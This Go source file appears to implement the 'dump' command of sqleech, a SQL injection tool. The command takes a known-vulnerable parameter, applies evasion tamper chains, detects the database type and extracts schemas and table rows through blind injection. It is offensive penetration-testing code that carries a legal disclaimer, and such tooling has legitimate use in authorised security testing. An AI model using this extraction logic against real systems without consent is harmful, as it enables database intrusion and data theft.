package cli

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/url"
	"os"
	"os/signal"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"github.com/0x6d61/sqleech/internal/cache"
	"github.com/0x6d61/sqleech/internal/dbmsfacade"
	"github.com/0x6d61/sqleech/internal/injector"
	"github.com/0x6d61/sqleech/internal/oracle"
	"github.com/0x6d61/sqleech/internal/report"
	"github.com/0x6d61/sqleech/internal/sqlictx"
	"github.com/0x6d61/sqleech/internal/tamper"
	"github.com/0x6d61/sqleech/internal/transport"
)

var dumpCmd = &cobra.Command{
	Use:   "dump",
	Short: "Extract the schema and data behind a known-vulnerable parameter",
	Long: `Dump bisects its way through a known-vulnerable injection point,
recovering the DBMS identity, its databases, tables, and fields, and a
sample of each table's rows.`,
	RunE: runDump,
}

func init() {
	rootCmd.AddCommand(dumpCmd)

	dumpCmd.Flags().StringP("param", "p", "", "Name of the vulnerable parameter (required)")
	dumpCmd.Flags().String("in", "query", "Where the parameter lives: query, body, header (User-Agent), or cookie")
	dumpCmd.Flags().String("field-type", "int", "How the original query quotes the parameter: int or string")
	dumpCmd.Flags().String("comment", "", "Trailing comment appended to every injected payload (none if omitted)")
	dumpCmd.Flags().String("string-delim", "", "Override the string delimiter (single character, default ')")
	dumpCmd.Flags().String("db", "", "Dump only this database (default: the current one)")
	dumpCmd.Flags().String("table", "", "Dump only this table (default: every table in scope)")
	dumpCmd.Flags().Int("rows", 10, "Maximum rows sampled per table (0 = every row)")
	dumpCmd.MarkFlagRequired("param") //nolint:errcheck
}

func runDump(cmd *cobra.Command, args []string) error {
	fmt.Println("[!] Legal disclaimer: Usage of sqleech for attacking targets without prior mutual consent is illegal.")

	// ------------------------------------------------------------------ //
	// 1. Read flags
	// ------------------------------------------------------------------ //
	targetURL, _ := cmd.Flags().GetString("url")
	if targetURL == "" {
		return fmt.Errorf("target URL is required (use --url or -u)")
	}
	method, _ := cmd.Flags().GetString("method")
	data, _ := cmd.Flags().GetString("data")
	cookieStr, _ := cmd.Flags().GetString("cookie")
	rawHeaders, _ := cmd.Flags().GetStringArray("header")
	proxyURL, _ := cmd.Flags().GetString("proxy")
	timeout, _ := cmd.Flags().GetDuration("timeout")
	forceSSL, _ := cmd.Flags().GetBool("force-ssl")
	randomAgent, _ := cmd.Flags().GetBool("random-agent")
	verbose, _ := cmd.Flags().GetInt("verbose")
	outputPath, _ := cmd.Flags().GetString("output")
	format, _ := cmd.Flags().GetString("format")
	dbmsHint, _ := cmd.Flags().GetString("dbms")
	tamperStr, _ := cmd.Flags().GetString("tamper")
	threads, _ := cmd.Flags().GetInt("threads")
	cachePath, _ := cmd.Flags().GetString("cache")

	param, _ := cmd.Flags().GetString("param")
	in, _ := cmd.Flags().GetString("in")
	fieldTypeStr, _ := cmd.Flags().GetString("field-type")
	comment, _ := cmd.Flags().GetString("comment")
	stringDelim, _ := cmd.Flags().GetString("string-delim")
	dbName, _ := cmd.Flags().GetString("db")
	tableName, _ := cmd.Flags().GetString("table")
	maxRows, _ := cmd.Flags().GetInt("rows")

	if param == "" {
		return fmt.Errorf("a vulnerable parameter name is required (use --param or -p)")
	}

	// ------------------------------------------------------------------ //
	// 2. Normalize URL and method
	// ------------------------------------------------------------------ //
	if forceSSL {
		targetURL = strings.Replace(targetURL, "http://", "https://", 1)
		if !strings.HasPrefix(targetURL, "https://") {
			targetURL = "https://" + targetURL
		}
	}
	if data != "" && method == "GET" {
		method = "POST"
	}
	if data != "" && !cmd.Flags().Changed("in") {
		in = "body"
	}

	headers := parseHeaders(rawHeaders)
	cookies := parseCookieString(cookieStr)

	// ------------------------------------------------------------------ //
	// 3. Transport client
	// ------------------------------------------------------------------ //
	client, err := transport.NewClient(transport.ClientOptions{
		Timeout:         timeout,
		ProxyURL:        proxyURL,
		FollowRedirects: true,
		RandomUserAgent: randomAgent,
	})
	if err != nil {
		return fmt.Errorf("failed to create HTTP client: %w", err)
	}

	// ------------------------------------------------------------------ //
	// 4. Injection context
	// ------------------------------------------------------------------ //
	fieldType := sqlictx.FieldInt
	if strings.EqualFold(fieldTypeStr, "string") {
		fieldType = sqlictx.FieldString
	}

	params := sqlictx.MappingParams{Target: param, Values: map[string]string{param: targetParamValue(targetURL, data, in, param)}}

	opts := []sqlictx.Option{
		sqlictx.WithHeaders(headers),
		sqlictx.WithCookie(cookies),
		sqlictx.WithMultithread(threads > 1),
	}
	if comment != "" {
		opts = append(opts, sqlictx.WithComment(comment))
	}
	if stringDelim != "" {
		opts = append(opts, sqlictx.WithStringDelim(stringDelim[0]))
	}

	ictx, err := sqlictx.New(sqlictx.MethodBlind, fieldType, targetURL, params, opts...)
	if err != nil {
		return fmt.Errorf("failed to build injection context: %w", err)
	}

	// ------------------------------------------------------------------ //
	// 5. Injector + tamper chain
	// ------------------------------------------------------------------ //
	trigger := oracle.DefaultHTTPErrorTrigger()
	inj, err := buildInjector(in, ictx, client, trigger)
	if err != nil {
		return err
	}
	if tamperStr != "" {
		chain := tamper.BuildChain(splitAndTrim(tamperStr)...)
		if len(chain) > 0 {
			inj = injector.WithTamper(inj, injector.FromTamperChain(chain))
		}
	}

	// ------------------------------------------------------------------ //
	// 6. Context (CTRL+C cancels the dump gracefully)
	// ------------------------------------------------------------------ //
	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt)
	defer cancel()

	// ------------------------------------------------------------------ //
	// 7. Pick the dialect
	// ------------------------------------------------------------------ //
	dialect := dbmsHint
	if dialect == "" {
		if verbose > 0 {
			fmt.Println("[*] No --dbms given, sniffing the dialect...")
		}
		sniffed, sniffErr := dbmsfacade.Sniff(ctx, inj)
		if sniffErr != nil {
			return fmt.Errorf("dbms sniff failed: %w", sniffErr)
		}
		if sniffed == "" {
			return fmt.Errorf("could not determine the DBMS dialect automatically; pass --dbms explicitly")
		}
		dialect = sniffed
	}

	facade, err := dbmsfacade.New(dialect, inj)
	if err != nil {
		return fmt.Errorf("unsupported dbms %q: %w", dialect, err)
	}
	facade.Engine.PoolLimit = threads

	if cachePath != "" {
		store, cacheErr := cache.NewSQLiteStore(cachePath)
		if cacheErr != nil {
			return fmt.Errorf("failed to open cache file %q: %w", cachePath, cacheErr)
		}
		defer store.Close()
		facade.WithCache(store, cacheTag(targetURL, param))
	}

	if verbose > 0 {
		fmt.Printf("[*] Target: %s\n", targetURL)
		fmt.Printf("[*] Method: %s\n", method)
		fmt.Printf("[*] Dialect: %s\n", facade.Name)
		if proxyURL != "" {
			fmt.Printf("[*] Proxy: %s\n", proxyURL)
		}
	}

	// ------------------------------------------------------------------ //
	// 8. Run the extraction
	// ------------------------------------------------------------------ //
	start := time.Now()
	dump, err := runExtraction(ctx, facade, targetURL, dbName, tableName, maxRows, verbose)
	if err != nil {
		return fmt.Errorf("extraction failed: %w", err)
	}
	dump.StartTime = start
	dump.EndTime = time.Now()
	dump.RequestCount = client.Stats().TotalRequests

	// ------------------------------------------------------------------ //
	// 9. Report
	// ------------------------------------------------------------------ //
	reporter, err := report.New(format)
	if err != nil {
		return fmt.Errorf("unknown report format %q: %w", format, err)
	}

	out := os.Stdout
	if outputPath != "" {
		f, err := os.Create(outputPath)
		if err != nil {
			return fmt.Errorf("failed to create output file %q: %w", outputPath, err)
		}
		defer f.Close()
		out = f
	}

	return reporter.Generate(ctx, dump, out)
}

// buildInjector picks the HTTP injector variant matching the --in flag.
func buildInjector(in string, ictx *sqlictx.Context, client transport.Client, trigger *oracle.Trigger) (injector.Injector, error) {
	switch strings.ToLower(in) {
	case "", "query":
		return injector.HTTPGet(ictx, client, trigger), nil
	case "body":
		return injector.HTTPPost(ictx, client, trigger), nil
	case "header":
		return injector.HTTPUserAgent(ictx, client, trigger), nil
	case "cookie":
		return injector.HTTPCookie(ictx, client, trigger), nil
	default:
		return nil, fmt.Errorf("unknown --in placement %q (want query, body, header, or cookie)", in)
	}
}

// targetParamValue looks up param's current value from the URL query or
// POST body depending on in, falling back to "1" when the placement
// carries no natural existing value (header, cookie) or the parameter
// isn't present yet.
func targetParamValue(targetURL, data, in, param string) string {
	switch strings.ToLower(in) {
	case "body":
		if values, err := url.ParseQuery(data); err == nil {
			if v := values.Get(param); v != "" {
				return v
			}
		}
	default:
		if parsed, err := url.Parse(targetURL); err == nil {
			if v := parsed.Query().Get(param); v != "" {
				return v
			}
		}
	}
	return "1"
}

// cacheTag derives a deterministic, collision-resistant tag scoping
// cached entries to one target URL and parameter, so two targets that
// happen to share a dialect never read each other's cached values.
func cacheTag(targetURL, param string) string {
	sum := sha256.Sum256([]byte(targetURL + "|" + param))
	return hex.EncodeToString(sum[:])[:16]
}

func splitAndTrim(s string) []string {
	parts := strings.Split(s, ",")
	out := make([]string, 0, len(parts))
	for _, p := range parts {
		p = strings.TrimSpace(p)
		if p != "" {
			out = append(out, p)
		}
	}
	return out
}

// --------------------------------------------------------------------------
// Flag helpers
// --------------------------------------------------------------------------

// parseCookieString parses a cookie header string (e.g., "name1=val1; name2=val2")
// into a map of name->value pairs.
func parseCookieString(raw string) map[string]string {
	cookies := make(map[string]string)
	if raw == "" {
		return cookies
	}
	pairs := strings.Split(raw, ";")
	for _, pair := range pairs {
		pair = strings.TrimSpace(pair)
		if pair == "" {
			continue
		}
		parts := strings.SplitN(pair, "=", 2)
		if len(parts) == 2 {
			cookies[strings.TrimSpace(parts[0])] = strings.TrimSpace(parts[1])
		}
	}
	return cookies
}

// parseHeaders parses header strings (e.g., "X-Custom: value") into a map.
func parseHeaders(rawHeaders []string) map[string]string {
	headers := make(map[string]string)
	for _, h := range rawHeaders {
		parts := strings.SplitN(h, ":", 2)
		if len(parts) == 2 {
			headers[strings.TrimSpace(parts[0])] = strings.TrimSpace(parts[1])
		}
	}
	return headers
}
